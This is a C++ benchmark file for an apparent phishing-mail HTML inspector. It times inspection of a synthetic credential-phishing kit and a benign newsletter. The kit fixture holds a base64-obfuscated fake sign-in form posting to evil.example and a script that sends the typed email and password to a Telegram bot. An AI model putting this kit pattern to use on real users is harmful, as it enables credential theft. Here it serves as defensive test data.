// Cost of inspecting one HTML attachment.
//
// Target (issue "Message verdicts"): the whole message check of a 50 kB
// message with a 30 kB HTML attachment at p50 <= 2 ms, so InspectHtml on
// 30 kB must stay well under 1 ms. Read p50_us/p99_us of
// BM_InspectHtml/credential_kit (a ~30 kB kit page, document.write(atob())
// of the form plus a long padding of styled markup, as real kits carry)
// and BM_InspectHtml/newsletter (a ~30 kB benign newsletter with a search
// form and a chart script).

#include <benchmark/benchmark.h>
#include <gumbo.h>

#include <string>

#include "absl/strings/escaping.h"
#include "server/mail/html_inspector.h"
#include "tests/bench/bench_support.h"

namespace {

using lureguard::mail::HtmlFindings;
using lureguard::mail::InspectHtml;

constexpr char kKitForm[] =
    R"html(<div class="box"><h2>Haier Biomedical</h2>
<p>Sign in to view document</p>
<form method="POST" action="https://evil.example/next.php">
<input type="email" name="email" id="email" value="alice@acme.example">
<input type="password" name="pwd" placeholder="Password">
<button type="submit">View Document</button></form></div>)html";

// ~30 kB: styles and decoy markup as kits carry, the form behind atob,
// and a Telegram exfiltration script.
std::string CredentialKit() {
  std::string html =
      "<!DOCTYPE html><html><head><meta charset=\"utf-8\">"
      "<title>Sign in to view document</title><style>";
  while (html.size() < 12000) {
    html += ".c" + std::to_string(html.size()) +
            "{font-family:Segoe UI,Arial,sans-serif;color:#333;"
            "margin:0 auto;padding:12px 24px;border:1px solid #ddd}\n";
  }
  html += "</style></head><body>";
  while (html.size() < 26000) {
    html +=
        "<div class=\"row\"><span class=\"icon\"></span><p>Shared file: "
        "COVID-19 cold chain shipment schedule.pdf (2.4 MB)</p></div>\n";
  }
  html += "<script>document.write(atob(\"" + absl::Base64Escape(kKitForm) +
          "\"));\nvar bot = \"https://api.telegram.org/bot\" + \"123:ABC\" + "
          "\"/sendMessage\";\n$(\"#next\").click(function(){ $.ajax({url: "
          "bot, type: \"POST\", data: {text: $(\"#email\").val() + "
          "$(\"#pwd\").val()}}); });</script></body></html>";
  while (html.size() < 30000) html += "<!-- padding -->\n";
  return html;
}

// ~30 kB benign newsletter: search form, signup, stories, a chart script.
std::string Newsletter() {
  std::string html =
      "<!DOCTYPE html><html><head><title>Acme Weekly</title><script>\n"
      "var data = [12, 19, 3, 5, 8, 13];\n"
      "function draw(ctx) { for (var i = 0; i < data.length; i++) {\n"
      "  ctx.fillRect(i * 30, 100 - data[i] * 5, 20, data[i] * 5);\n"
      "  tip.innerHTML = \"<div class='tip'>\" + data[i] + \"</div>\"; } }\n"
      "window.onload = function () { draw(document.getElementById('c')"
      ".getContext('2d')); };\n</script></head><body>"
      "<form action=\"https://news.acme.example/search\" method=\"get\">"
      "<input type=\"search\" name=\"q\" placeholder=\"Search\"></form>";
  for (int i = 0; html.size() < 29000; ++i) {
    html += "<table><tr><td class=\"story\"><h2>Story " + std::to_string(i) +
            "</h2><p>Lorem ipsum dolor sit amet, consectetur adipiscing "
            "elit, sed do eiusmod tempor incididunt ut labore et dolore "
            "magna aliqua.</p><a href=\"https://news.acme.example/s/" +
            std::to_string(i) +
            "\" onclick=\"track(this)\">Read more</a></td></tr></table>\n";
  }
  html +=
      "<form action=\"https://news.acme.example/subscribe\" method=\"post\">"
      "<input type=\"email\" name=\"EMAIL\"><button>Sign up</button></form>"
      "<canvas id=\"c\"></canvas></body></html>";
  return html;
}

void BM_InspectHtml(benchmark::State& state, bool credential) {
  const std::string html = credential ? CredentialKit() : Newsletter();
  lureguard::bench::LatencySamples latency;
  size_t sinks = 0;
  for (auto _ : state) {
    HtmlFindings f =
        lureguard::bench::Timed(latency, [&] { return InspectHtml(html); });
    sinks = f.sinks.size();
    benchmark::DoNotOptimize(f);
  }
  latency.Report(state);
  state.SetBytesProcessed(state.iterations() * html.size());
  state.counters["html_bytes"] = static_cast<double>(html.size());
  state.counters["sinks"] = static_cast<double>(sinks);
}
BENCHMARK_CAPTURE(BM_InspectHtml, credential_kit, true)
    ->Unit(benchmark::kMicrosecond);
BENCHMARK_CAPTURE(BM_InspectHtml, newsletter, false)
    ->Unit(benchmark::kMicrosecond);

// The one gumbo parse of layer 0 that every inspection needs: the floor.
void BM_GumboParseOnly(benchmark::State& state, bool credential) {
  const std::string html = credential ? CredentialKit() : Newsletter();
  GumboOptions options = kGumboDefaultOptions;
  options.max_errors = 0;
  for (auto _ : state) {
    GumboOutput* output =
        gumbo_parse_with_options(&options, html.data(), html.size());
    benchmark::DoNotOptimize(output);
    gumbo_destroy_output(&kGumboDefaultOptions, output);
  }
}
BENCHMARK_CAPTURE(BM_GumboParseOnly, credential_kit, true)
    ->Unit(benchmark::kMicrosecond);
BENCHMARK_CAPTURE(BM_GumboParseOnly, newsletter, false)
    ->Unit(benchmark::kMicrosecond);

}  // namespace

BENCHMARK_MAIN();
